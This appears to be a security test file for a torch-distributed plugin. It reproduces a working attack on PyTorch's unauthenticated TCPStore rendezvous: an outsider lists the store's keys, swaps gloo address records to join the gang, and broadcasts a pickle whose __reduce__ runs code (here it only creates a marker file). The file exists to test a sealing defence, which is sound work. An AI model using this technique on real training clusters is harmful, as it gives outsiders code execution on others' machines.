"""The code-execution attack of issue 37 on torch's own rendezvous, as an outsider runs it: it
knows only node 0's store address, lists the store's keys, forms a gloo process group of its
own with a rank of the gang by swapping address records between the gang's store and a store
of its own, and broadcasts a pickle to that rank (what Lightning's and Accelerate's broadcasts
unpickle).

`python -m tests.gloo_hijack attack ADDR PORT MARKER`: the attacker (its pickle creates MARKER).
`python -m tests.gloo_hijack rank`: a rank of a 2-rank gang (MASTER_ADDR, MASTER_PORT, RANK,
WORLD_SIZE in its environment), sealed as the package's ranks are when SEAL_SECRET is set; rank
0 starts DELAY s late, so that the attacker meets rank 1 first. Prints what its broadcast got.
"""

import multiprocessing
import os
import sys
import time
from datetime import timedelta

RECORD = "cpu//0/"  # the end of gloo's address record keys: default_pg/0//cpu//0/<rank>


class SideEffect:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def steer(addr, port, own_port, seconds):
    """Put the attacker's address record where rank 0's belongs (before rank 0 writes it, and
    over it after), and hand rank 1's record to the attacker's own group."""
    import torch.distributed as dist

    gang = dist.TCPStore(addr, port, None, False, timedelta(seconds=20))
    own = dist.TCPStore("127.0.0.1", own_port, None, False, timedelta(seconds=20))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        theirs = next((k for k in gang.list_keys() if k.endswith(RECORD + "1")), None)
        mine = next((k for k in own.list_keys() if k.endswith(RECORD + "0")), None)
        if theirs and mine:
            gang.set(theirs[:-1] + "0", own.get(mine))
            if not own.check([mine[:-1] + "1"]):
                own.set(mine[:-1] + "1", gang.get(theirs))
        time.sleep(0.01)


def attack(addr, port, marker):
    import torch.distributed as dist

    own = dist.TCPStore("127.0.0.1", 0, None, True, timedelta(seconds=20),
                        wait_for_workers=False)
    helper = multiprocessing.get_context("fork").Process(
        target=steer, args=(addr, int(port), own.port, 15.0))
    helper.start()
    try:
        dist.init_process_group("gloo", store=own, rank=0, world_size=2,
                                timeout=timedelta(seconds=15))
        dist.broadcast_object_list([SideEffect(marker)], src=0)
        print("attacker: the pickle was sent", flush=True)
    finally:
        helper.join()


def rank():
    import faulthandler

    import torch.distributed as dist

    faulthandler.dump_traceback_later(60, exit=True)  # a rank that hangs shows where, and ends

    secret = os.environ.get("SEAL_SECRET")
    if secret:
        from metaflow_extensions.torch_distributed.plugins.torch_distributed.runtime import (
            rendezvous_seal,
        )

        rendezvous_seal.install("train", secret, "run-train-2-0", 0)
    me = int(os.environ["RANK"])
    if me == 0:
        time.sleep(float(os.environ.get("DELAY", "3")))
    dist.init_process_group("gloo", timeout=timedelta(seconds=20))
    got = [{"from": "rank 0"}] if me == 0 else [None]
    dist.broadcast_object_list(got, src=0)
    print("rank %d got %r" % (me, got), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        attack(*sys.argv[2:5])
    else:
        rank()
